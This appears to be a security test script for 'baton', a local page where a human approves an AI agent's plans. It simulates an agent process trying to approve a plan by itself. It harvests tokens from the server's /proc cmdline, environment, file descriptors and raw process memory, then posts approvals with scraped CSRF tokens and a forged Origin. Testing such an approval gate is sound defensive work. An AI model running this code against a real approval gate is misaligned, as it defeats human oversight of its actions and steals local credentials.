// An agent's process trying to approve a plan through baton's page (`baton ui`): it gathers
// candidate tokens where an agent of the same user could look, and for each one it loads the
// page, takes the CSRF token from it, and posts an approval with the page's own Origin — all a
// browser would send. It prints what it found and how each try ended, as one JSON line.
//
//   node page-agent.mjs <source> <port> <server pid> <plan file> [extra…]
//
// source: none | guess | cmdline | environ | files <folder…> | fds | memory | stolen <url>
import { createHash } from 'node:crypto';
import {
  closeSync,
  constants,
  openSync,
  readdirSync,
  readFileSync,
  readlinkSync,
  readSync,
  statSync,
} from 'node:fs';
import path from 'node:path';

const [source, port, pid, planFile, ...extra] = process.argv.slice(2);
const origin = `http://127.0.0.1:${port}`;
const planId = path.basename(planFile, '.md');
const tokenShape = /^[A-Za-z0-9_-]{16,64}$/;
const addressPattern = new RegExp(`127\\.0\\.0\\.1:${port}/([A-Za-z0-9_-]{16,64})/`, 'g');

function fromText(text, candidates) {
  for (const match of text.matchAll(addressPattern)) candidates.add(match[1]);
  for (const word of text.split(/[\0\n=/ ]/)) if (tokenShape.test(word)) candidates.add(word);
}

function readSafely(file) {
  try {
    return readFileSync(file, 'latin1');
  } catch {
    return '';
  }
}

function walk(folder, visit, depth = 0) {
  if (depth > 8) return;
  let names = [];
  try {
    names = readdirSync(folder);
  } catch {
    return;
  }
  for (const name of names) {
    const file = path.join(folder, name);
    let status;
    try {
      status = statSync(file);
    } catch {
      continue;
    }
    if (status.isDirectory()) walk(file, visit, depth + 1);
    else if (status.isFile() && status.size < 32 * 1024 * 1024) visit(file);
  }
}

/** The server's writable memory, where a process keeps its strings. */
function fromMemory(candidates) {
  const maps = readSafely(`/proc/${pid}/maps`).split('\n');
  let memory;
  try {
    memory = openSync(`/proc/${pid}/mem`, 'r');
  } catch (error) {
    return `cannot open the memory: ${error.code}`;
  }
  let read = 0;
  for (const line of maps) {
    const [range, permissions] = line.split(' ');
    if (!range || !permissions?.startsWith('rw')) continue;
    const [start, end] = range.split('-').map((hex) => BigInt(`0x${hex}`));
    const length = Number(end - start);
    if (length > 256 * 1024 * 1024) continue;
    const buffer = Buffer.alloc(length);
    try {
      readSync(memory, buffer, 0, length, start);
    } catch {
      continue;
    }
    read += length;
    for (const match of buffer.toString('latin1').matchAll(addressPattern)) candidates.add(match[1]);
  }
  closeSync(memory);
  return `read ${read} bytes`;
}

const candidates = new Set();
let note = '';
switch (source) {
  case 'none':
    candidates.add('');
    break;
  case 'guess':
    for (const guess of ['token', 'baton', 'a'.repeat(32), 'AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA', ...extra])
      candidates.add(guess);
    break;
  case 'cmdline':
  case 'environ':
    fromText(readSafely(`/proc/${pid}/${source}`), candidates);
    break;
  case 'files':
    for (const folder of extra) walk(folder, (file) => fromText(readSafely(file), candidates));
    break;
  case 'fds':
    for (const fd of readdirSync(`/proc/${pid}/fd`)) {
      const target = (() => {
        try {
          return readlinkSync(`/proc/${pid}/fd/${fd}`);
        } catch {
          return '';
        }
      })();
      // Its files, and its standard streams (where the address was printed) opened without
      // waiting. Not the event loop's own pipes and eventfds: reading those steals the server's
      // wake-ups, a way to stall the page (as kill -STOP would), not to approve through it.
      if (!target.startsWith('/') && Number(fd) > 2) continue;
      try {
        const handle = openSync(`/proc/${pid}/fd/${fd}`, constants.O_RDONLY | constants.O_NONBLOCK);
        const buffer = Buffer.alloc(1024 * 1024);
        const length = readSync(handle, buffer, 0, buffer.length, null);
        closeSync(handle);
        fromText(buffer.subarray(0, length).toString('latin1'), candidates);
      } catch {
        // not readable: nothing to learn
      }
      note += `${target} `;
    }
    break;
  case 'memory':
    note = fromMemory(candidates);
    break;
  case 'stolen':
    candidates.add(new URL(extra[0]).pathname.split('/')[1]);
    break;
  default:
    throw new Error(`unknown source ${source}`);
}

const sha256 = createHash('sha256').update(readFileSync(planFile)).digest('hex');
const tries = [];
for (const token of candidates) {
  const base = token === '' ? `${origin}/` : `${origin}/${token}/`;
  let csrf = '';
  try {
    const page = await fetch(base);
    const found = /name="baton-csrf" content="([^"]+)"/.exec(await page.text());
    csrf = found?.[1] ?? '';
  } catch {
    // the page did not answer: try the post anyway
  }
  const response = await fetch(`${base}api/plans/${planId}/approve`, {
    method: 'POST',
    headers: { 'content-type': 'application/json', origin, 'x-baton-csrf': csrf },
    body: JSON.stringify({ sha256 }),
  }).catch((error) => ({ status: 0, text: async () => String(error) }));
  tries.push({ page: csrf !== '', status: response.status, answer: (await response.text()).slice(0, 300) });
}
process.stdout.write(`${JSON.stringify({ candidates: candidates.size, note, tries })}\n`);
